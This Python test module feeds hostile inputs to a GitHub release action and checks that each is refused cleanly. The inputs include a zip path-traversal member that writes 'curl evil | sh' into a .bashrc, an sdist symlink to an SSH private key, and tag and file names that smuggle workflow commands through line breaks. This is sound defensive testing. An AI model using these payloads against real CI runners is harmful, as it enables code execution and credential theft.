"""A corpus of hostile inputs through the real entry points, and a table of what became of each.

Each case is something an attacker with a workflow's rights (dispatch inputs, a file in the
dist directory, the build job's token on the release's assets) or a maintainer on a bad day
can put in front of the action (issue 11). It runs through `release-action` as the runner
starts it (`main(["run"])` with INPUT_*/GITHUB_*), against the GitHub REST double (responses
checked against GitHub's OpenAPI description) and the two pypiservers, or through the CLI's
`status` and `verify`. Every case must be refused with an exit code of its kind and an error
that names the problem and the fix, without a workflow command smuggled into the output,
without a secret printed, with nothing uploaded to an index and the hostile file attached
nowhere; then the same job with good input must finish. The table (case -> exit code, error,
message) is printed at the end of the module.
"""

from __future__ import annotations

import io
import json
import os
import re
import tarfile
import zipfile
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest

from action.cli import main
from action.errors import (
    ConfigError,
    DigestMismatchError,
    FileTooLargeError,
    ForeignDistError,
    LogError,
    UnsafeInputError,
)
from tests.doubles.fixtures import TOKEN
from tests.fixtures_index import TEST_TOKEN
from tests.integration.harness import NAME, VERSION
from tests.integration.test_asset_names import attach
from tests.integration.test_run_github import RUN_ID, job, release_env
from tests.many_dists import metadata, write_wheel

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.fixtures_index import PypiServer

pytestmark = pytest.mark.integration
__all__ = ["release_env"]  # the runner's environment, a fixture of test_run_github

DIST = NAME.replace("-", "_")
OTHER_WHEEL = f"{DIST}-{VERSION}-py2-none-any.whl"  # a name the lane does not build itself
PWNED = "::warning::PWNED"  # a workflow command that must never reach the runner as one
SMUGGLED = ("::set-output", PWNED)
URL_SECRET = "pypi-s3cretvalue"
ROWS: list[tuple[str, str, str]] = []


@dataclass
class World:
    """The case's surroundings: the workspace (the checked-out project), the GitHub repo."""

    workspace: Path
    tmp: Path
    repo: object
    github_api: object
    monkeypatch: pytest.MonkeyPatch
    pypi: PypiServer | None = None

    @property
    def dist(self) -> Path:
        path = self.workspace / "dist"
        path.mkdir(exist_ok=True)
        return path


@dataclass(frozen=True)
class Case:
    name: str
    error: type[Exception]
    problem: str  # the message names the problem ...
    fix: str  # ... and the fix
    env: dict[str, str] = field(default_factory=dict)
    plant: Callable[[World], None] | None = None  # puts the hostile file in place
    command: Callable[[World], list[str]] | None = None  # a CLI command instead of a job
    hostile_name: str = ""  # attached nowhere, uploaded nowhere
    secret: str = ""  # a secret of the case that must not be printed
    prepare: Callable[[World], None] | None = None  # runs before the hostile input
    job: tuple[str, str] = ("build", "build")  # the step and the job (GITHUB_JOB) refused


# --- the hostile files ------------------------------------------------------------------------


def wheel_named(name: str, **options: object) -> Callable[[World], None]:
    """A valid wheel of the release, under the file name `name`."""
    def plant(world: World) -> None:
        made = write_wheel(world.tmp, NAME, VERSION, "py2-none-any", 64, **options)  # type: ignore[arg-type]
        made.rename(world.dist / name)
    return plant


def foreign_wheel(world: World) -> None:
    write_wheel(world.dist, "requests", VERSION, "py3-none-any", 64)


def renamed_linux_wheel(world: World) -> None:
    made = write_wheel(world.tmp, NAME, VERSION, "cp312-cp312-manylinux_2_17_x86_64", 64)
    made.rename(world.dist / OTHER_WHEEL)


def outside_wheel(world: World) -> Path:
    outside = world.tmp / "outside"
    outside.mkdir(exist_ok=True)
    return write_wheel(outside, NAME, VERSION, "py2-none-any", 64)


def symlink_out(world: World) -> None:
    (world.dist / OTHER_WHEEL).symlink_to(outside_wheel(world))


def hardlink_out(world: World) -> None:
    (world.dist / OTHER_WHEEL).hardlink_to(outside_wheel(world))


def fifo(world: World) -> None:
    os.mkfifo(world.dist / OTHER_WHEEL)


def big_wheel(world: World) -> None:
    made = write_wheel(world.tmp, NAME, VERSION, "py2-none-any", 2 * 2**20)
    made.rename(world.dist / OTHER_WHEEL)


def climbing_wheel(world: World) -> None:
    made = write_wheel(world.tmp, NAME, VERSION, "py2-none-any", 64)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("../../../home/runner/.bashrc", b"curl evil | sh\n")
    made.rename(world.dist / OTHER_WHEEL)


def sdist_with_symlink(world: World) -> None:
    top = f"{DIST}-{VERSION}"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = metadata(NAME, VERSION)
        info = tarfile.TarInfo(f"{top}/PKG-INFO")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo(f"{top}/setup.cfg")
        link.type, link.linkname = tarfile.SYMTYPE, "/home/runner/.ssh/id_ed25519"
        archive.addfile(link)
    (world.dist / f"{top}.tar.gz").write_bytes(buffer.getvalue())


def event_file(payload: str) -> Callable[[World], None]:
    def plant(world: World) -> None:
        path = world.tmp / "event.json"
        path.write_text(payload)
        world.monkeypatch.setenv("GITHUB_EVENT_PATH", str(path))
    return plant


def nested_log(world: World) -> list[str]:
    path = world.tmp / "release-state.000001.jsonl"
    path.write_text("[" * 100_000 + "\n")
    return ["status", str(path)]


def good_log(world: World) -> list[str]:
    (release,) = world.repo.releases()  # type: ignore[attr-defined]
    (log,) = [a for a in release.assets.values() if a.name.startswith("release-state.")]
    path = world.tmp / "release-state.000001.jsonl"
    path.write_bytes(bytes(log.data))
    return ["status", str(path)]


def verify_release(world: World) -> list[str]:
    (release,) = world.repo.releases()  # type: ignore[attr-defined]
    world.monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    return ["verify", "--release", release.tag_name, "--public-key",
            str(world.tmp / "public.pem"), "--repository", "octo/tiny-release",
            "--commit", os.environ["GITHUB_SHA"]]


def hostile_asset(world: World) -> None:
    drafted_and_approved(world)
    assert job(world.monkeypatch, "publish", "publish") == 0
    (release,) = world.repo.releases()  # type: ignore[attr-defined]
    attach(world.github_api, world.repo, release.id, "../../x.whl", b"PK hostile")


def drafted_and_approved(world: World) -> None:
    """The draft is made and the reviewer approved the `publish` job's gate of the run."""
    for step in ("build", "release"):
        assert job(world.monkeypatch, step, step) == 0
    world.repo.add_approval(RUN_ID, environments=("publish",))  # type: ignore[attr-defined]


def pypi_holds_other_bytes(world: World) -> None:
    """Someone uploaded a file of the release's name to PyPI first, with other bytes."""
    drafted_and_approved(world)
    assert world.pypi is not None
    (world.pypi.packages / f"{DIST}-{VERSION}.tar.gz").write_bytes(b"someone else's sdist")


def build_first(world: World) -> None:
    assert job(world.monkeypatch, "build", "build") == 0


def dispatch(tag: str) -> dict[str, str]:
    return {"GITHUB_EVENT_NAME": "workflow_dispatch", "INPUT_TAG": tag}


TAG_HINT = "a PEP 440 version with an optional leading v"
OUTSIDE = "outside the workspace"
HTTPS = "uploads go over https only"
REMOVE = "Remove the file from the dist directory"

CASES = [
    # --- dispatch inputs ---
    Case("tag with LF and a workflow command", ConfigError, "is not a valid git tag name",
         TAG_HINT, env=dispatch("v1.0.0\n::set-output name=state::published")),
    Case("tag with CR and a workflow command", ConfigError, "is not a valid git tag name",
         TAG_HINT, env=dispatch(f"v1.0.0\r{PWNED}")),
    Case("tag with ..", ConfigError, "is not a valid git tag name", TAG_HINT,
         env=dispatch("v1..0")),
    Case("tag that is no version", ConfigError, "is not a version", "PEP 440 versions",
         env=dispatch("latest")),
    Case("step that does not exist", ConfigError, "input `step` must be one of",
         "build, release, publish", env={"INPUT_STEP": "yolo"}),
    Case("dist-dir absolute", ConfigError, f"input `dist-dir` is '/etc', which is {OUTSIDE}",
         "relative to the workspace", env={"INPUT_DIST-DIR": "/etc"}),
    Case("dist-dir ../x", ConfigError, f"input `dist-dir` is '../x', which is {OUTSIDE}",
         "without `..`", env={"INPUT_DIST-DIR": "../x"}),
    Case("project-dir ../..", ConfigError, f"input `project-dir` is '../..', which is {OUTSIDE}",
         "without `..`", env={"INPUT_PROJECT-DIR": "../.."}),
    Case("repository-url ftp://", ConfigError, f"input `repository-url` is 'ftp://example/': "
         f"{HTTPS}", "https upload URL", env={"INPUT_REPOSITORY-URL": "ftp://example/"}),
    Case("test-repository-url plain http", ConfigError, HTTPS, "https upload URL",
         env={"INPUT_TEST-REPOSITORY-URL": "http://test.example/legacy/"}),
    Case("repository-url with a password in it", ConfigError,
         "carries credentials in the URL (refused, not shown)", "never in the URL",
         env={"INPUT_REPOSITORY-URL": f"https://__token__:{URL_SECRET}@upload.example/legacy/"},
         secret=URL_SECRET),
    Case("max-dist-size no size", ConfigError, "input `max-dist-size` must be a size",
         "with a unit", env={"INPUT_MAX-DIST-SIZE": "lots"}),
    Case("event payload nested 100000 deep", ConfigError, "JSON nested too deeply",
         "GitHub Actions job", plant=event_file("[" * 100_000)),
    Case("pull request from a fork", ConfigError, "a pull request from a fork",
         "on: push: tags", env={"GITHUB_EVENT_NAME": "pull_request_target"},
         plant=event_file(json.dumps({"pull_request": {"head": {"repo": {
             "full_name": "mallory/tiny-release", "fork": True}}}}))),
    # --- a file in the dist directory ---
    Case("wheel of another project", ForeignDistError, "is a file of the project 'requests'",
         REMOVE, plant=foreign_wheel, hostile_name="requests-1.0.0-py3-none-any.whl"),
    Case("METADATA names another project", ForeignDistError,
         "its metadata names the project 'requests'", "renamed after it was built",
         plant=wheel_named(OTHER_WHEEL, meta=metadata("requests", VERSION)),
         hostile_name=OTHER_WHEEL),
    Case("METADATA says another version", ForeignDistError, "its metadata says version '9.9'",
         "renamed after it was built",
         plant=wheel_named(OTHER_WHEEL, meta=metadata(NAME, "9.9")), hostile_name=OTHER_WHEEL),
    Case("linux wheel renamed pure", ForeignDistError,
         "its WHEEL file lists the tags cp312-cp312-manylinux_2_17_x86_64", "a renamed wheel",
         plant=renamed_linux_wheel, hostile_name=OTHER_WHEEL),
    Case("wheel name with %0A and a command", UnsafeInputError, "never has `%`, a line break",
         REMOVE, plant=wheel_named(f"{DIST}-{VERSION}-py3-none-any%0A{PWNED}.whl")),
    Case("wheel name with CR and a command", UnsafeInputError, "never has `%`, a line break",
         REMOVE, plant=wheel_named(f"{DIST}-{VERSION}-py3-none-any\r{PWNED}.whl")),
    Case("wheel name with LF and a command", UnsafeInputError, "never has `%`, a line break",
         REMOVE, plant=wheel_named(f"{DIST}-{VERSION}-py3-none-any\n{PWNED}.whl")),
    Case("symlink to a file outside", UnsafeInputError, "is a symlink pointing to",
         "put the file itself there", plant=symlink_out, hostile_name=OTHER_WHEEL),
    Case("hardlink to a file outside", UnsafeInputError, "is a hardlink",
         "copy the file there instead of linking it", plant=hardlink_out,
         hostile_name=OTHER_WHEEL),
    Case("fifo under a wheel's name", UnsafeInputError, "is a fifo, not a regular file",
         REMOVE, plant=fifo, hostile_name=OTHER_WHEEL),
    Case("wheel over max-dist-size", FileTooLargeError,
         "is 2.0 MiB, over the `max-dist-size` limit of 1.0 MiB", "raise the action's "
         "`max-dist-size` input", env={"INPUT_MAX-DIST-SIZE": "1MiB"}, plant=big_wheel,
         hostile_name=OTHER_WHEEL),
    Case("wheel member climbing out with ..", UnsafeInputError,
         "'../../../home/runner/.bashrc' that is a path with `..`", REMOVE,
         plant=climbing_wheel, hostile_name=OTHER_WHEEL),
    Case("sdist with a symlink member", UnsafeInputError,
         "'tiny_release-1.0.0/setup.cfg' that is a symlink", REMOVE,
         env={"INPUT_PARTS": "wheel", "INPUT_WHEEL-SOURCE": "checkout"}, plant=sdist_with_symlink,
         hostile_name=f"{DIST}-{VERSION}.tar.gz"),
    # --- the approval ---
    Case("step: publish in another job of the approved run", ConfigError,
         "this job (lint) is not that job", "`environment: publish`",
         prepare=drafted_and_approved, job=("publish", "lint")),
    Case("PyPI holds other bytes under the sdist's name", DigestMismatchError,
         f"{DIST}-{VERSION}.tar.gz: pypi", "An index never replaces a file",
         prepare=pypi_holds_other_bytes, job=("publish", "publish")),
    # --- what the CLI reads from a release ---
    Case("status of a log nested 100000 deep", LogError, "nested too deeply", "state log",
         command=nested_log, prepare=build_first),
    Case("verify --release with an asset ../../x.whl", UnsafeInputError,
         "'../../x.whl', which is not a plain file name", "Delete that asset",
         prepare=hostile_asset, command=verify_release, hostile_name="x.whl"),
]
GOOD_COMMAND: dict[str, Callable[[World], list[str]]] = {
    "status of a log nested 100000 deep": good_log,
    "verify --release with an asset ../../x.whl": verify_release,
}


@pytest.fixture(scope="module", autouse=True)
def table(request: pytest.FixtureRequest) -> Iterator[None]:
    """The corpus table, printed when the module is done."""
    yield
    if not ROWS:
        return
    width = max(len(r[0]) for r in ROWS)
    lines = ["", f"{'hostile input'.ljust(width)}  outcome",
             *(f"{case.ljust(width)}  {outcome}: {message}" for case, outcome, message in ROWS)]
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    with capture.global_and_fixture_disabled():
        print("\n".join(lines))  # noqa: T201 - the corpus table, on the terminal


def unescape(line: str) -> str:
    """A workflow command's text as the runner shows it."""
    return line.replace("%0A", "\n").replace("%0D", "\r").replace("%25", "%")


def secrets() -> list[str]:
    key = os.environ["INPUT_SIGNING-KEY"]
    body = [line for line in key.splitlines() if line and not line.startswith("-----")]
    return [TOKEN, TEST_TOKEN, *body]


def all_assets(repo: object) -> set[str]:
    return {a.name for r in repo.releases() for a in r.assets.values()}  # type: ignore[attr-defined]


def run_case(case: Case, world: World) -> int:
    """The case's job or command, with its hostile inputs (undone afterwards)."""
    outer = world.monkeypatch
    with outer.context() as hostile:
        world.monkeypatch = hostile
        try:
            for key, value in case.env.items():
                hostile.setenv(key, value)
            if case.plant is not None:
                case.plant(world)
            if case.command is not None:
                return main(case.command(world))
            step = os.environ.get("INPUT_STEP", case.job[0]) if case.job[0] == "build" \
                else case.job[0]
            return job(hostile, step, case.job[1])
        finally:
            world.monkeypatch = outer


@pytest.fixture
def world(release_env, github_api, monkeypatch, pypi_server) -> World:
    repo, workspace, tmp = release_env
    return World(workspace, tmp, repo, github_api, monkeypatch, pypi_server)


@pytest.fixture
def indexes(testpypi_server, pypi_server) -> tuple[PypiServer, ...]:
    return (testpypi_server, pypi_server)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_a_hostile_input_is_refused_and_a_rerun_with_good_input_finishes(
        case, world, indexes, capsys):
    repo, tmp, github_api, monkeypatch = world.repo, world.tmp, world.github_api, world.monkeypatch
    monkeypatch.setenv("INPUT_STEP", "build")
    if case.prepare is not None:
        case.prepare(world)
    held_before = {s.url: sorted(p.name for p in s.packages.iterdir()) for s in indexes}
    capsys.readouterr()

    code = run_case(case, world)
    out, err = capsys.readouterr()
    printed = out + err
    error_lines = [line for line in out.splitlines() if line.startswith("::error ")]
    said = unescape(error_lines[0].split("::", 2)[-1] if error_lines else err.strip())
    ROWS.append((case.name, f"exit {code} {case.error.__name__}",
                 said.splitlines()[0][:110] if said else ""))

    assert code == case.error.exit_code, printed  # type: ignore[attr-defined]
    refusal = unescape(error_lines[0] if error_lines else err)
    assert case.problem in refusal, printed
    assert case.fix in refusal, printed
    smuggled = [line for line in re.split(r"[\r\n]", printed) if line.startswith(SMUGGLED)]
    assert smuggled == [], "a workflow command reached the runner's output"
    # `::add-mask::` is how the runner learns what to hide; any other line must not show one.
    shown = "\n".join(line for line in printed.splitlines() if not line.startswith("::add-mask::"))
    leaked = [s for s in [*secrets(), case.secret] if s and s in shown]
    assert leaked == [], "a secret was printed"
    held = {s.url: sorted(p.name for p in s.packages.iterdir()) for s in indexes}
    assert held == held_before, "something was uploaded to an index"
    if case.hostile_name:
        assert case.hostile_name not in all_assets(repo), "the hostile file was attached"
        assert not list(tmp.rglob("x.whl"))

    # The rerun: the hostile input gone, the same job finishes.
    own = {f"{DIST}-{VERSION}.tar.gz", f"{DIST}-{VERSION}-py3-none-any.whl"}
    for path in world.dist.iterdir():
        if path.name == case.hostile_name or path.name not in own or path.is_symlink():
            path.unlink()
    if case.prepare is pypi_holds_other_bytes and world.pypi is not None:
        (world.pypi.packages / f"{DIST}-{VERSION}.tar.gz").unlink()
    if case.name.startswith("verify"):
        (release,) = repo.releases()
        with github_api._lock:
            for asset_id in [i for i, a in release.assets.items() if a.name == "../../x.whl"]:
                del release.assets[asset_id]
    if case.command is not None:
        assert main(GOOD_COMMAND[case.name](world)) == 0, capsys.readouterr()
    else:
        step = "publish" if case.job[0] == "publish" else "build"
        assert job(monkeypatch, step, step) == 0, capsys.readouterr()
